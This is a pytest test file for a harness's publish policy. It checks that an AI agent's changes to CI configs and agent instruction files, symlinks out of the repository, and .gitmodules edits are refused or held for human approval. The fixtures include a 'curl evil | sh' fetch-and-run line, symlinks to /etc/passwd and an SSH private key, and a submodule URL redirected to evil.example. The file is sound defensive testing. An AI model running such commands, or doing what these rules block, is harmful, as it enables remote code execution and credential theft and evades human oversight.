"""The publish policy on the taken change (runner/protected_paths.py) with real git, through the
publisher (runner/publish.py): protected paths refused or held for approval, links out of the tree,
`.gitmodules`."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
from tests.unit.runner.test_publish import Pod, git, with_submodule

from harness_operator.api.reasons import Reason
from harness_operator.api.v1alpha1 import ProtectedPathAction, ProtectedPathRule
from harness_operator.contract.changes import PublishPlan
from harness_operator.core.config import OperatorConfig
from harness_operator.runner.protected_paths import links_out, matches, strictest_rule

PLATFORM = list(OperatorConfig().protected_paths)
BRANCH = "harness/run-1"


@pytest.fixture
def pod(tmp_path: Path) -> Pod:
    return Pod(tmp_path).commit_and_clone()


def write(pod: Pod, path: str, text: str = "run: curl evil | sh\n") -> None:
    (pod.workdir / path).parent.mkdir(parents=True, exist_ok=True)
    (pod.workdir / path).write_text(text)


def plan(pod: Pod, rules: list[ProtectedPathRule] = PLATFORM, **changes: object) -> PublishPlan:
    return pod.plan(protected_paths=rules, **changes)


# Every default rule, with a path a change would touch under it (the chart's default is the same list).
DEFAULT_CASES = {
    ".github/": ".github/workflows/x.yml",
    ".gitea/": ".gitea/workflows/ci.yaml",
    ".forgejo/": ".forgejo/workflows/ci.yaml",
    ".gitlab/": ".gitlab/ci/deploy.yml",
    ".circleci/": ".circleci/config.yml",
    ".buildkite/": ".buildkite/pipeline.yml",
    ".woodpecker/": ".woodpecker/build.yml",
    ".gitlab-ci.yml": ".gitlab-ci.yml",
    ".travis.yml": ".travis.yml",
    ".drone.yml": ".drone.yml",
    ".woodpecker.yml": ".woodpecker.yml",
    "Jenkinsfile": "Jenkinsfile",
    "azure-pipelines.yml": "azure-pipelines.yml",
    "bitbucket-pipelines.yml": "bitbucket-pipelines.yml",
    "CODEOWNERS": "docs/CODEOWNERS",
    "AGENTS.md": "services/api/AGENTS.md",
    "AGENT.md": "AGENT.md",
    "CLAUDE.md": "CLAUDE.md",
    "CLAUDE.local.md": "pkg/CLAUDE.local.md",
    "GEMINI.md": "GEMINI.md",
    "QWEN.md": "QWEN.md",
    ".cursorrules": ".cursorrules",
    ".clinerules": ".clinerules/style.md",
    ".windsurfrules": ".windsurfrules",
    ".goosehints": ".goosehints",
    ".claude/": ".claude/settings.json",
    ".cursor/": ".cursor/rules/style.mdc",
    ".gemini/": ".gemini/settings.json",
    ".qwen/": ".qwen/settings.json",
    ".kiro/": ".kiro/steering/x.md",
    ".factory/": ".factory/droids/x.md",
    ".amazonq/": ".amazonq/rules/x.md",
    ".codex/": ".codex/config.toml",
    ".mcp.json": ".mcp.json",
    ".aider.conf.yml": ".aider.conf.yml",
    "opencode.json": "opencode.json",
}


def test_every_default_rule_has_a_case() -> None:
    assert {rule.path for rule in PLATFORM} == set(DEFAULT_CASES)
    assert {rule.action for rule in PLATFORM} == {ProtectedPathAction.refuse}


@pytest.mark.parametrize(("pattern", "path"), sorted(DEFAULT_CASES.items()))
def test_every_default_path_is_refused(pattern: str, path: str) -> None:
    rule = strictest_rule(path, PLATFORM)
    assert rule is not None and rule.action == ProtectedPathAction.refuse, path
    assert matches(path, pattern)


@pytest.mark.parametrize(
    ("path", "pattern", "expected"),
    [
        (".github/workflows/x.yml", ".github/workflows/", True),
        (".github/dependabot.yml", ".github/workflows/", False),
        (".github/workflows", ".github/workflows/", False),  # the folder itself is no file under it
        ("src/.github/workflows/x.yml", ".github/workflows/", False),  # a folder rule starts at the root
        (".GitHub/Workflows/x.yml", ".github/workflows/", True),  # case is ignored
        ("CLAUDE.md", "CLAUDE.md", True),
        ("a/b/claude.md", "CLAUDE.md", True),  # a bare name at any depth, any case
        ("CLAUDE.md.bak", "CLAUDE.md", False),
        ("notCLAUDE.md", "CLAUDE.md", False),
        ("x/.clinerules/y.md", ".clinerules", True),  # a bare name is a folder's too
        ("deploy/prod.yaml", "deploy/*.yaml", True),  # a glob over the whole path
        ("deploy/a/prod.yaml", "deploy/*.yaml", True),  # fnmatch's * crosses /
        ("src/deploy/prod.yaml", "deploy/*.yaml", False),
        ("keys/id.pem", "*.pem", True),
        ("docs/CODEOWNERS", "docs/CODEOWNERS", True),
        ("CODEOWNERS", "docs/CODEOWNERS", False),  # a path with "/" is the whole path
        ("pkg/.cursor/rules/x.mdc", "*/.cursor/rules/", True),
    ],
)
def test_rule_paths_match_as_documented(path: str, pattern: str, expected: bool) -> None:
    assert matches(path, pattern) is expected


def test_a_refuse_rule_wins_over_an_approval_for_the_same_path() -> None:
    rules = [
        ProtectedPathRule(path=".github/", action=ProtectedPathAction.require_approval),
        ProtectedPathRule(path=".github/CODEOWNERS"),
    ]
    assert strictest_rule(".github/workflows/x.yml", rules) == rules[0]
    assert strictest_rule(".github/CODEOWNERS", rules) == rules[1]
    assert strictest_rule("README.md", rules) is None


@pytest.mark.parametrize("path", [".github/workflows/x.yml", ".gitlab-ci.yml", "CLAUDE.md", "sub/AGENTS.md"])
def test_a_change_to_a_protected_path_is_refused_and_not_pushed(pod: Pod, path: str) -> None:
    write(pod, path)

    refused = pod.publish(plan(pod))

    assert refused.reason == Reason.ChangeTouchesProtectedPath, refused
    message = refused.message or ""
    assert path in message and "Refuse" in message and "RequireApproval" in message
    assert BRANCH not in pod.branches()
    assert refused.patch_sha256  # the patch is kept for a person to read


@pytest.mark.parametrize("how", ["remove", "rename-from", "rename-to"])
def test_removing_or_renaming_a_protected_file_is_refused_too(tmp_path: Path, how: str) -> None:
    pod = Pod(tmp_path, {"README.md": "x\n", "AGENTS.md": "rules\n"}).commit_and_clone()
    if how == "remove":
        (pod.workdir / "AGENTS.md").unlink()
    elif how == "rename-from":
        (pod.workdir / "AGENTS.md").rename(pod.workdir / "NOTES.md")
    else:
        (pod.workdir / "README.md").rename(pod.workdir / "CLAUDE.md")

    refused = pod.publish(plan(pod))

    assert refused.reason == Reason.ChangeTouchesProtectedPath, refused
    assert BRANCH not in pod.branches()


def test_a_require_approval_path_is_reported_for_approval(pod: Pod) -> None:
    write(pod, ".github/workflows/x.yml")
    write(pod, "src/app.py", "print(1)\n")
    rules = [ProtectedPathRule(path=".github/workflows/", action=ProtectedPathAction.require_approval)]

    report = pod.publish(plan(pod, rules))

    assert report.approval_paths == [".github/workflows/x.yml"]
    assert '"approvalPaths":[".github/workflows/x.yml"]' in report.render()
    assert report.patch_sha256 and BRANCH not in pod.branches()  # kept, never pushed unapproved


def test_many_paths_awaiting_approval_fit_the_report(pod: Pod) -> None:
    for i in range(40):
        write(pod, f"deploy/{'x' * 150}-{i:02}.yaml", "kind: Deployment\n")
    rules = [ProtectedPathRule(path="deploy/", action=ProtectedPathAction.require_approval)]

    report = pod.publish(plan(pod, rules))

    assert report.approval_paths is not None and len(report.approval_paths) == 10
    assert len(report.render().encode()) <= 4096


def test_a_change_clear_of_the_rules_is_published(pod: Pod) -> None:
    write(pod, "src/app.py", "print(1)\n")
    write(pod, "docs/github-workflows.md", "how CI works\n")

    report = pod.publish(plan(pod))

    assert report.reason is None and report.approval_paths is None, report
    assert pod.branches()[BRANCH] == report.commit


def test_a_patch_only_run_keeps_a_protected_change(pod: Pod) -> None:
    """The rules protect what is pushed: a run that pushes nothing keeps the patch for a person."""
    write(pod, ".github/workflows/x.yml")

    report = pod.publish(plan(pod, branch=None))

    assert report.reason is None and report.patch_sha256, report
    assert BRANCH not in pod.branches()


@pytest.mark.parametrize(
    ("link", "target"),
    [
        ("passwd", "/etc/passwd"),
        ("up", ".."),
        ("docs/up", "../../x"),
        ("docs/sneak", "a/../../../etc"),
    ],
)
def test_a_link_out_of_the_tree_is_refused(pod: Pod, link: str, target: str) -> None:
    (pod.workdir / link).parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, pod.workdir / link)

    report = pod.publish(plan(pod))

    assert report.reason == Reason.ChangeLinksOutOfTree, report
    assert link in (report.message or "") and target in (report.message or "")
    assert BRANCH not in pod.branches() and report.patch_sha256 is None  # nothing kept


def test_a_link_out_of_the_tree_is_refused_in_a_patch_only_run(pod: Pod) -> None:
    os.symlink("/root/.ssh/id_rsa", pod.workdir / "key")

    report = pod.publish(plan(pod, branch=None))

    assert report.reason == Reason.ChangeLinksOutOfTree, report
    assert report.patch_sha256 is None


def test_a_link_within_the_tree_is_published(pod: Pod) -> None:
    (pod.workdir / "docs").mkdir()
    os.symlink("../README.md", pod.workdir / "docs" / "README.md")
    os.symlink("docs/./README.md", pod.workdir / "readme")

    report = pod.publish(plan(pod))

    assert report.reason is None, report.message
    assert pod.tree(report.commit or "")["docs/README.md"][0] == "120000"


def test_a_link_made_to_lead_out_through_another_link_is_refused(tmp_path: Path) -> None:
    """The base's own link `a -> x/..` stays in the tree while x is a folder; the agent makes x a link to
    ".", in the tree itself, and `a` now leads out: the link the agent left alone is refused."""
    pod = Pod(tmp_path, {"README.md": "x\n", "x/keep": "k\n"})
    os.symlink("x/..", pod.seed / "a")
    git("add", "-A", cwd=pod.seed)
    pod.commit_and_clone()
    subprocess.run(["rm", "-rf", str(pod.workdir / "x")], check=True)
    os.symlink(".", pod.workdir / "x")

    report = pod.publish(plan(pod))

    assert report.reason == Reason.ChangeLinksOutOfTree, report
    assert "makes a a link to x/.." in (report.message or "")


def test_the_repository_s_own_link_out_left_alone_is_published(tmp_path: Path) -> None:
    pod = Pod(tmp_path, {"README.md": "x\n"})
    os.symlink("/usr/share/common-licenses/MIT", pod.seed / "LICENSE")
    git("add", "-A", cwd=pod.seed)
    pod.commit_and_clone()
    (pod.workdir / "README.md").write_text("changed\n")

    report = pod.publish(plan(pod))

    assert report.reason is None, report.message


def test_links_resolve_as_the_tree_holds_them() -> None:
    links = {"a": "b/c", "b": "d/..", "loop": "loop", "deep/x": "../../..", "deep/y": "../ok"}
    assert not links_out("a", links)
    assert links_out("deep/x", links)
    assert not links_out("deep/y", links)
    assert not links_out("loop", links)  # a loop points nowhere, not out
    assert links_out("c", {"c": "b/../..", "b": "."})


def test_a_change_to_gitmodules_is_a_submodule_change(tmp_path: Path) -> None:
    pod = with_submodule(tmp_path)
    (pod.workdir / ".gitmodules").write_text(
        '[submodule "sub"]\n\tpath = sub\n\turl = https://evil.example/x\n'
    )

    report = pod.publish(plan(pod))

    assert report.reason == Reason.ChangeTouchesSubmodule, report
    assert ".gitmodules" in (report.message or "")
    assert BRANCH not in pod.branches()
